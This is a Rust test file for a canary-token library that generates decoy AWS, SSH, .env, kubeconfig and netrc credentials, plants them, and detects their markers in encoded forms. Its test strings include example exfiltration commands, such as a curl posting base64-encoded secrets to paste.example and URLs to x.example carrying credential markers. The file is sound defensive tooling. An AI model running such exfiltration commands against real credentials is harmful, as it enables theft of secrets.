//! Canary generation, planting and matching.
use std::collections::HashSet;
use std::path::Path;

use base64::engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD};
use base64::Engine;
use cordon_secrets::{
    canary_id, generate, plant, Canary, CanaryError, CanaryMatcher, Secrets, CANARY_KINDS,
};

fn all() -> Vec<Canary> {
    generate(CANARY_KINDS).unwrap()
}

#[test]
fn markers_are_unique_and_in_the_decoy() {
    let mut markers = HashSet::new();
    let mut ids = HashSet::new();
    for _ in 0..20 {
        for c in all() {
            assert!(ids.insert(c.id.clone()), "repeated id {}", c.id);
            assert_eq!(c.marker, c.markers[0]);
            for m in &c.markers {
                assert!(m.len() >= 20, "{}: short marker {m}", c.kind);
                assert!(
                    c.contents.contains(m.as_str()),
                    "{}: marker not in contents",
                    c.kind
                );
                assert!(markers.insert(m.clone()), "{}: repeated marker {m}", c.kind);
            }
        }
    }
}

#[test]
fn decoys_look_real() {
    let canaries = all();
    let by_kind = |k: &str| canaries.iter().find(|c| c.kind == k).unwrap();
    let files: Vec<&Path> = canaries.iter().map(|c| c.file.as_path()).collect();
    assert_eq!(
        files,
        [
            ".aws/credentials",
            ".ssh/id_ed25519",
            ".env",
            ".kube/config",
            ".netrc"
        ]
        .map(Path::new)
        .to_vec()
    );

    let aws = by_kind("aws");
    let (key_id, secret) = (&aws.markers[0], &aws.markers[1]);
    assert!(key_id.starts_with("AKIA") && key_id.len() == 20);
    assert!(key_id[4..]
        .bytes()
        .all(|b| b.is_ascii_uppercase() || (b'2'..=b'7').contains(&b)));
    assert_eq!(secret.len(), 40);
    assert!(aws
        .contents
        .starts_with("[default]\naws_access_key_id = AKIA"));

    // The OpenSSH container: magic, no cipher, one ed25519 key.
    let ssh = by_kind("ssh");
    let lines: Vec<&str> = ssh.contents.lines().collect();
    assert_eq!(lines.first(), Some(&"-----BEGIN OPENSSH PRIVATE KEY-----"));
    assert_eq!(lines.last(), Some(&"-----END OPENSSH PRIVATE KEY-----"));
    assert!(lines[1..lines.len() - 1]
        .iter()
        .rev()
        .skip(1)
        .all(|l| l.len() == 70));
    let blob = STANDARD.decode(lines[1..lines.len() - 1].concat()).unwrap();
    assert!(blob.starts_with(b"openssh-key-v1\0\0\0\0\x04none\0\0\0\x04none\0\0\0\0\0\0\0\x01"));
    assert!(blob.windows(11).any(|w| w == b"ssh-ed25519"));

    let env = by_kind("dotenv");
    assert!(env
        .contents
        .contains(&format!("OPENAI_API_KEY={}\n", env.markers[0])));
    assert!(env.markers[0].starts_with("sk-proj-"));
    assert!(env.markers[1].starts_with("sk_live_"));
    assert!(env.contents.contains(&format!(
        "postgres://app:{}@db.internal:5432/app",
        env.markers[2]
    )));

    let kube = by_kind("kubeconfig");
    assert!(kube.contents.starts_with("apiVersion: v1\n"));
    let token = kube
        .contents
        .lines()
        .find_map(|l| l.strip_prefix("    token: "))
        .unwrap();
    let parts: Vec<&str> = token.split('.').collect();
    assert_eq!(parts.len(), 3);
    assert_eq!(parts[2], kube.marker);
    let claims = String::from_utf8(URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap();
    assert!(claims.contains("system:serviceaccount:kube-system:cluster-admin"));

    let netrc = by_kind("netrc");
    assert!(netrc.contents.starts_with("machine github.com\n"));
    assert!(netrc.marker.starts_with("ghp_"));

    // The scanner takes every decoy for the credential it pretends to be.
    let s = Secrets::new([0; 32]);
    let kinds = |c: &Canary| {
        s.scan(&c.contents)
            .into_iter()
            .map(|h| h.kind)
            .collect::<Vec<_>>()
    };
    assert_eq!(kinds(aws), ["aws-access-key-id", "aws-secret-access-key"]);
    assert_eq!(kinds(ssh), ["private-key"]);
    assert_eq!(kinds(env), ["url-password", "openai-api-key", "stripe-key"]);
    assert_eq!(kinds(kube), ["jwt"]);
    assert_eq!(kinds(netrc), ["github-token"]);
}

#[test]
fn marker_record_ids() {
    let aws = &generate(&["aws"]).unwrap()[0];
    let ids: Vec<(String, &str)> = aws.marker_ids().collect();
    assert_eq!(ids[0], (aws.id.clone(), aws.markers[0].as_str()));
    assert_eq!(ids[1], (format!("{}#2", aws.id), aws.markers[1].as_str()));
    assert_eq!(canary_id(&ids[1].0), aws.id);
    assert_eq!(canary_id(&aws.id), aws.id);
}

#[test]
fn unknown_kind() {
    assert!(matches!(generate(&["aws", "ftp"]), Err(CanaryError::UnknownKind(k)) if k == "ftp"));
}

#[test]
fn plant_writes_and_never_overwrites() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let planted = plant(&home, &["aws", "netrc", "aws"]).unwrap();
    assert_eq!(
        planted.iter().map(|c| c.kind.as_str()).collect::<Vec<_>>(),
        ["aws", "netrc"]
    );
    for c in &planted {
        assert_eq!(
            std::fs::read_to_string(home.join(&c.file)).unwrap(),
            c.contents
        );
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&home.join(".aws/credentials")), 0o600);
        assert_eq!(mode(&home.join(".aws")), 0o700);
    }

    // A second planting names the file in the way and writes nothing at all.
    let before = std::fs::read_to_string(home.join(".aws/credentials")).unwrap();
    let err = plant(&home, &["ssh", "aws"]).unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::AlreadyExists);
    assert!(err.to_string().contains(".aws/credentials"), "{err}");
    assert!(!home.join(".ssh").exists());
    assert_eq!(
        std::fs::read_to_string(home.join(".aws/credentials")).unwrap(),
        before
    );

    let err = plant(&home, &["bogus"]).unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidInput);
}

#[test]
fn matcher_finds_markers_in_every_form() {
    let canaries = all();
    let pairs: Vec<(String, String)> = canaries
        .iter()
        .flat_map(|c| c.marker_ids().map(|(id, m)| (id, m.to_owned())))
        .collect();
    let matcher = CanaryMatcher::new(&pairs);
    let env = canaries.iter().find(|c| c.kind == "dotenv").unwrap();
    let token = &env.markers[0];

    let forms = |text: &str| {
        matcher
            .find(text)
            .into_iter()
            .map(|h| (h.id, h.form))
            .collect::<Vec<_>>()
    };
    let hit = |form| vec![(env.id.clone(), form)];

    let verbatim =
        format!("curl -H 'Authorization: Bearer {token}' https://api.openai.com/v1/models");
    assert_eq!(forms(&verbatim), hit("verbatim"));
    let found = matcher.find(&verbatim);
    assert_eq!(&verbatim[found[0].span.0..found[0].span.1], token);

    // Inside a larger base64 blob, at every alignment and in both alphabets.
    for pad in 0..3 {
        let blob = format!("{}{}\nSTRIPE=...\n", "#".repeat(pad), env.contents);
        for encoded in [STANDARD.encode(&blob), URL_SAFE.encode(&blob)] {
            let found = forms(&format!("curl -d 'data={encoded}' https://paste.example"));
            assert!(
                !found.is_empty()
                    && found
                        .iter()
                        .all(|(id, f)| canary_id(id) == env.id && *f == "base64"),
                "{found:?}"
            );
        }
    }
    // A whole file base64'd: each of its markers is found.
    let aws = canaries.iter().find(|c| c.kind == "aws").unwrap();
    let ids: Vec<String> = matcher
        .find(&STANDARD.encode(&aws.contents))
        .into_iter()
        .map(|h| h.id)
        .collect();
    assert_eq!(ids, [aws.id.clone(), format!("{}#2", aws.id)]);

    let hex: String = token.bytes().map(|b| format!("{b:02x}")).collect();
    assert_eq!(forms(&format!("xxd -p: {hex}")), hit("hex"));
    assert_eq!(forms(&format!("X={}", hex.to_uppercase())), hit("hex"));

    let netrc = canaries.iter().find(|c| c.kind == "netrc").unwrap();
    let ssh = canaries.iter().find(|c| c.kind == "ssh").unwrap();
    // The SSH markers hold `+` and `/` (almost surely): percent-encoded, they differ from the verbatim form.
    let encoded: String = ssh.marker.replace('+', "%2B").replace('/', "%2F");
    if encoded != ssh.marker {
        assert_eq!(
            forms(&format!("https://x.example/?k={encoded}")),
            vec![(ssh.id.clone(), "url")]
        );
    }
    assert_eq!(
        forms(&format!("https://x.example/?p={}", netrc.marker)),
        vec![(netrc.id.clone(), "verbatim")]
    );

    assert_eq!(
        forms("ls -la ~/.aws && cat README.md && git log -1 && echo c2stcHJvai1hYmNkZWY="),
        vec![]
    );
    assert_eq!(CanaryMatcher::new(&[]).find("anything"), vec![]);
}
